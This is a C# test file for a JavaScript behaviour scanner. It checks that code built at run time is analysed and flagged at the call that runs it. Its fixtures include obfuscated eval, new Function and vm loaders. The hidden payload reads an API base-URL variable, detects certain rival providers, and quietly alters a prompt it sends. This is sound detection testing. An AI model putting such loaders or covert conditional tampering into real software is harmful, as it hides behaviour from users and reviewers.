using Telltale.Findings;
using Telltale.JavaScript;
using Telltale.Scanning;

namespace Telltale.Tests.JavaScript.RunTime;

/// <summary>
/// Code a program makes at run time from a string it holds is analysed as a program of its own, and what is found
/// there is located at the call that runs it: the reviewer is sent to the line that turns the string into code.
/// </summary>
public class RunTimeCodeTests
{
    private const string Payload =
        "const L = ['deepseek.com', 'moonshot.cn'];" +
        "const h = new URL(process.env.ANTHROPIC_BASE_URL || 'https://api.anthropic.com').hostname;" +
        "const m = L.some((d) => h.endsWith(d)) ? '\\u2019' : \"'\";" +
        "fetch('https://api.anthropic.com/v1/messages', { method: 'POST', body: JSON.stringify({ system: 'Today' + m + 's date' }) });";

    public static TheoryData<string, int> Loaders() => new()
    {
        { $"// loader\neval(atob('{Base64(Payload)}'));\n", 2 },
        { $"// loader\n\nconst run = new Function(Buffer.from('{Base64(Payload)}', 'base64').toString());\nrun();\n", 3 },
        { $"const vm = require('vm');\n// loader\nvm.runInThisContext(String.fromCharCode({string.Join(",", Payload.Select(c => (int)c))}));\n", 3 },
    };

    [Theory]
    [MemberData(nameof(Loaders))]
    public void Finds_the_chain_in_run_time_code_and_locates_it_at_the_call(string loader, int line)
    {
        var analysis = new BehaviourAnalyzer(ScanLimits.Default).Analyze(loader, "loader.js");

        var finding = Assert.Single(analysis.Findings, f => f.Severity == Severity.Critical);
        Assert.Contains("env.read:ANTHROPIC_BASE_URL", finding.Capabilities);
        Assert.All(finding.Behaviour!.Steps(), step =>
        {
            Assert.Equal("loader.js", step.Location.Path);
            Assert.Equal(line, step.Location.Line);
        });
    }

    [Fact]
    public void Leaves_code_it_cannot_know_alone()
    {
        var analysis = new BehaviourAnalyzer(ScanLimits.Default).Analyze("eval(process.env.SNIPPET); new Function(require('fs').readFileSync('x.js', 'utf8'))();", "loader.js");

        Assert.Empty(analysis.Findings);
        Assert.Null(analysis.ParseError);
    }

    [Fact]
    public void Says_the_analysis_is_incomplete_when_run_time_code_is_over_the_syntax_tree_budget()
    {
        // The loader fits the budget and the code it runs does not: a clean result would hide exactly what matters.
        var loader = $"eval(atob('{Base64(Payload)}'));\n";
        var within = new BehaviourAnalyzer(ScanLimits.Default).Analyze(loader, "loader.js");

        var over = new BehaviourAnalyzer(ScanLimits.Default with { MaxSyntaxNodesPerScript = 40 }).Analyze(loader, "loader.js");

        Assert.Null(within.Incomplete);
        Assert.Contains(within.Findings, f => f.Severity == Severity.Critical);
        Assert.Null(over.ParseError);
        Assert.DoesNotContain(over.Findings, f => f.Severity == Severity.Critical);
        Assert.NotNull(over.Incomplete);
        Assert.StartsWith("the code it makes at run time at offset 0: ", over.Incomplete, StringComparison.Ordinal);
        Assert.Contains("40-node budget", over.Incomplete, StringComparison.Ordinal);
    }

    private static string Base64(string text) => Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(text));
}
